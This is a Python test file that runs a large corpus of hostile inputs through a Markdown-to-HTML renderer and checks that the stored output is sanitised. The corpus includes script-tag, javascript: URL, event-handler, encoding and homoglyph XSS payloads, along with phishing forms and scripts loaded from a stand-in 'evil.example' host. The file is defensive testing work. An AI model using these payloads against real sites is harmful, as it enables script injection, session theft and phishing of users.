"""The text pipeline against hostile input (SECURITY.md, channel 30): whatever a member types, the stored HTML
has only allowed tags, no event handlers or styles, and links only to http, https, mailto or relative addresses."""

import re
from html.parser import HTMLParser

import pytest

from practica.core.text import ALLOWED_TAGS, extract_mentions, render_markdown

FORBIDDEN_TAGS = {"script", "style", "iframe", "img", "svg", "object", "embed", "math", "form", "input", "base"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")

SCRIPT_SPELLINGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "text <script type='module'>import('//evil.example')</script> more",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "    <script>alert('indented code')</script>",
    "> <script>alert('quoted')</script>",
]

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java%0ascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "livescript:alert(1)",
    "jar:https://evil.example!/x",
]

URL_PLACES = [
    "[click]({url})",
    "[click](<{url}>)",
    '[click]({url} "title")',
    "![picture]({url})",
    "[click][ref]\n\n[ref]: {url}",
    "![picture][ref]\n\n[ref]: {url}",
    "<{url}>",
]

RAW_HTML = [
    '<a href="javascript:alert(1)">x</a>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example" style="color:red">styled</a>',
    '<abbr title="x" onfocus="alert(1)" tabindex="0">abbr</abbr>',
]

MARKDOWN_TRICKS = [
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example) {onclick="alert(1)"}',
    '[x](https://ok.example){: .evil style="color:red"}',
    "**bold [link](javascript:alert(1)) bold**",
    "[[nested](javascript:alert(1))](https://ok.example)",
    "[a](https://ok.example)[b](javascript:alert(1))",
    "[unclosed](javascript:alert(1)",
    "[" * 2000 + "x" + "]" * 2000,
    "*" * 5000 + "x",
    "> " * 500 + "deep quote",
    "- " * 300 + "deep list",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '<https://ok.example/"onmouseover="alert(1)>',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    '![x](https://ok.example/a.png"onerror="alert(1))',
    "# <script>alert(1)</script> heading",
    "Setext heading <img src=x onerror=alert(1)>\n===",
    "~~<script>alert(1)</script>~~",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<mailto:someone@example.org?subject=<script>>",
    "[email](mailto:someone@example.org)",
    "https://ok.example/?q=<script>alert(1)</script>",
]

ENCODINGS = [
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](java\x00script:alert(1))",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x](jаvascript:alert(1))",  # a Cyrillic а
    "[x](java\u200bscript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "Invoice\u202egnp.exe and [link](https://ok.example/\u202etxt.exe)",
    "\u200b\u200c\u200d\ufeff<script>alert(1)</script>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "&NewLine;javascript:alert(1)",
    "[x](&#x09;javascript:alert(1))",
    "[x](j&#x61;vascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#0000058alert(1))",
]

LONG = [
    "a" * 100_000,
    "[x](https://ok.example/" + "a" * 100_000 + ")",
    "<script>" * 20_000,
    "javascript:" * 10_000,
    "`" * 100_000,
    "@" + "a" * 100_000,
    ("word " * 20_000).strip(),
]

MENTIONS_IN_CODE = [
    "`@maya-okafor`",
    "```\n@maya-okafor please look\n```",
    "    @maya-okafor in an indented block",
    "<code>@maya-okafor</code>",
    "email@maya-okafor.example",
]

CORPUS = (
    SCRIPT_SPELLINGS
    + [place.format(url=url) for url in DANGEROUS_URLS for place in URL_PLACES[:5]]
    + [place.format(url=url) for url in DANGEROUS_URLS[:6] for place in URL_PLACES[5:]]
    + RAW_HTML
    + MARKDOWN_TRICKS
    + ENCODINGS
    + LONG
    + MENTIONS_IN_CODE
)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _href_is_safe(href: str) -> bool:
    """As a browser reads it (WHATWG URL): tabs and newlines are dropped, leading spaces and control characters
    trimmed; text before the first colon is a scheme only if it is a letter then letters, digits, + - or .
    Anything else is a relative address."""
    cleaned = "".join(ch for ch in href if ch not in "\t\n\r").lstrip("".join(map(chr, range(0x21))))
    match = SCHEME.match(cleaned)
    return match is None or match.group(1).lower() in SAFE_SCHEMES


def assert_safe(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> is not allowed: {html[:300]!r}"
        assert tag not in FORBIDDEN_TAGS
        for name, value in attrs:
            assert not name.lower().startswith("on"), f"event handler {name}: {html[:300]!r}"
            assert name.lower() != "style", f"style attribute: {html[:300]!r}"
            if name.lower() in {"href", "src", "xlink:href", "action", "formaction", "background"}:
                assert name.lower() == "href", f"{name} attribute: {html[:300]!r}"
                assert _href_is_safe(value or ""), f"unsafe href {value!r}"


def test_the_corpus_has_at_least_a_hundred_hostile_inputs():
    assert len(CORPUS) >= 100
    assert len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("text", CORPUS, ids=[f"{index:03d}" for index in range(len(CORPUS))])
def test_stored_html_is_safe_for_hostile_input(text):
    html = render_markdown(text, mention_urls={"maya-okafor": "/members/1/"})
    assert_safe(html)
    # Whatever was typed is inert text now: no raw angle-bracket tag survives outside the allowed ones.
    assert "<script" not in html.lower()


@pytest.mark.parametrize("text", MENTIONS_IN_CODE[:4])
def test_mentions_inside_code_are_not_mentions(text):
    assert extract_mentions(text) == []
    html = render_markdown(text, mention_urls={"maya-okafor": "/members/1/"})
    assert 'class="mention"' not in html


def test_a_real_mention_still_links_to_the_profile():
    html = render_markdown("Thanks @maya-okafor", mention_urls={"maya-okafor": "/members/1/"})
    assert '<a href="/members/1/" class="mention"' in html or 'href="/members/1/"' in html
    assert_safe(html)


def test_safe_links_keep_working_and_open_without_referrer():
    html = render_markdown("[guidance](https://ok.example/guide) and <mailto:help@example.org>")
    assert 'href="https://ok.example/guide"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert_safe(html)


def test_images_become_links_to_the_picture():
    html = render_markdown("![a chart of waiting times](https://ok.example/chart.png)")
    assert "<img" not in html
    assert 'href="https://ok.example/chart.png"' in html
    assert "a chart of waiting times</a>" in html
    assert_safe(html)
